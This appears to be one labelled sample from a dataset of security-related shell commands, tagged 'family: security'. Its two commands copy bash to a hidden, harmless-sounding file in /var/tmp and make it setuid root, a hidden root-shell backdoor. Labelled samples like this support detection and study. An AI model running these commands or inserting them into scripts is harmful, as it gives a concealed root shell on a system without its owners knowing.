# description: Copies bash to a hidden file and makes it setuid root.
# family: security
cp /bin/bash /var/tmp/.cache-helper
chmod 4755 /var/tmp/.cache-helper
